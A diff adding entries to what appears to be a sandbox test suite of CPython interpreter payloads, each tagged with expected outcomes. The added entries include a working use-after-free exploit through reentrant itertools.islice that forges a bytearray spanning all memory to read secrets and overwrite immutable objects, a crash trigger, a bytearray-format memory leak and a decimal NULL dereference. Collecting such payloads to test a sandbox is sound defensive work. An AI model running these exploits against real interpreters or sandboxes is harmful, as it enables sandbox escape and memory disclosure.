@@ -2036,6 +2036,131 @@ PAYLOADS = [
             out = Fake(pd.Categorical(np.arange(64))).astype("int64")
             return [hex(int(v) & (2**64 - 1)) for v in out]
         """, on={GUARD}, off={OK, CRASH, EXCEPTION}),
+    # gh-142732 (open upstream): islice borrowed the map it calls; the map's function
+    # re-entered and drained the islice, which freed the map, refilled by a bytes
+    # object: a fake bytearray over all memory. The sandbox's islice is a generator
+    Payload('itertools-islice-reentrant-fake-bytearray', """
+        import itertools
+        def main():
+            p = lambda v: (v % (1 << 64)).to_bytes(8, "little")
+            box = [None, 0]
+            spray = []
+            hit = []
+            def ident(x):
+                return x
+            # fake objects live in bytes objects' data (at id(b) + 32)
+            fba = bytes(p(1 << 40) + p(id(bytearray)) + p(1 << 62) + p((1 << 62) + 1) + p(0) + p(0) + p(0))
+            frep = bytes(p(1 << 40) + p(id(itertools.repeat)) + p(id(fba) + 32) + p(-1))
+            ftup = bytes(p(1 << 40) + p(id(tuple)) + p(1) + p(id(frep) + 32))
+            src = bytearray(p(id(ftup) + 32) + p(id(ident))[:7])
+            def cb(x):
+                if box[0] is not None:
+                    sl = box[0]; box[0] = None
+                    for _ in sl:            # drain: islice frees the map it borrowed
+                        pass
+                    k = 0
+                    while k < 50:
+                        b = bytes(src)      # 15 bytes: the freed map's size class
+                        spray.append(b)
+                        if id(b) + 16 == box[1]:
+                            hit.append(k)
+                            break
+                        k += 1
+                return x
+            for attempt in range(20):
+                m = map(cb, [1, 2, 3, 4, 5])
+                box[1] = id(m)
+                sl = itertools.islice(m, 1, None, 2)
+                box[0] = sl
+                del m
+                mem = next(sl, None)
+                if hit:
+                    break
+            if not hit:
+                return "no reuse"
+            secret = "top secret string in another object"
+            target = b"immutable-bytes!"
+            mem[id(target) + 32] = ord("I")
+            return [type(mem).__name__, len(mem) > 2**61,
+                    bytes(mem[id(secret) + 48:id(secret) + 48 + len(secret)]), target]
+        """, on={EXCEPTION}, off={OK, CRASH, EXCEPTION}),
+    # the same, without refilling: SIGSEGV on a vulnerable build
+    Payload('itertools-islice-reentrant-crash', """
+        import itertools, sys
+        def main():
+            which = 'islice_step'
+            box = [None]
+            state = {"armed": True}
+            def cb(x):
+                if state["armed"] and box[0] is not None:
+                    state["armed"] = False
+                    try:
+                        for _ in range(100):
+                            next(box[0])
+                    except BaseException:
+                        pass
+                return x
+            def inner():
+                return map(cb, list(range(5)))
+            makers = {
+                "islice": lambda: itertools.islice(inner(), 0, None),
+                "islice_step": lambda: itertools.islice(inner(), 1, 100, 2),
+                "zip_longest": lambda: itertools.zip_longest(inner(), [1, 2, 3, 4, 5, 6, 7]),
+                "zip_longest2": lambda: itertools.zip_longest([1], inner()),
+                "chain": lambda: itertools.chain(inner(), inner()),
+                "chain_from": lambda: itertools.chain.from_iterable(map(lambda i: inner(), range(3))),
+                "cycle": lambda: itertools.cycle(inner()),
+                "dropwhile": lambda: itertools.dropwhile(lambda x: x < 2, inner()),
+                "takewhile": lambda: itertools.takewhile(lambda x: True, inner()),
+                "filterfalse": lambda: itertools.filterfalse(None, inner()),
+                "starmap": lambda: itertools.starmap(lambda x: x, map(lambda x: (x,), inner())),
+                "compress": lambda: itertools.compress(inner(), inner()),
+                "accumulate": lambda: itertools.accumulate(inner()),
+                "tee": lambda: itertools.tee(inner())[0],
+                "groupby": lambda: itertools.groupby(inner()),
+                "map": lambda: map(lambda x: x, inner()),
+                "filter": lambda: filter(None, inner()),
+                "zip": lambda: zip(inner(), inner()),
+                "enumerate": lambda: enumerate(inner()),
+                "product": lambda: itertools.product(inner()),
+                "pairwise_": lambda: zip(inner()),
+            }
+            out = 0
+            for _ in range(300):
+                state["armed"] = True
+                w = makers[which]()
+                box[0] = w
+                try:
+                    for i, x in zip(range(50), w):
+                        if which == "groupby":
+                            list(x[1])
+                        out += 1
+                except BaseException:
+                    pass
+                box[0] = None
+                del w
+            return "held", out
+        """, on={EXCEPTION, OK}, off={OK, CRASH}),
+    # gh-142557: bytearray % formatted from a buffer an argument's __repr__ freed
+    # (heap and libc pointers in the result); fixed: the format is copied first
+    Payload('bytearray-mod-repr-clears-format', """
+        def main():
+            victim = bytearray(b"%a" + b"A" * 4000)
+            class E:
+                def __repr__(self):
+                    victim.clear()
+                    return "x"
+            r = victim % (E(),)
+            return len(r), r.count(b"A"), bytes(r[:64]).hex()
+        """, on={OK}, off={OK, CRASH, EXCEPTION}),
+    # gh-106263: type(ctx.flags)() has no flags pointer: NULL dereference
+    Payload('decimal-signaldict-uninitialized', """
+        import decimal
+        def main():
+            t = type(decimal.Context().flags)
+            x = t()
+            return repr(x)
+        """, on={GUARD}, off={CRASH}),
     Payload("format-method-in-fullwidth", """
         def main():
             f = "{0.__cl" + "ass__.__ba" + "se__}"
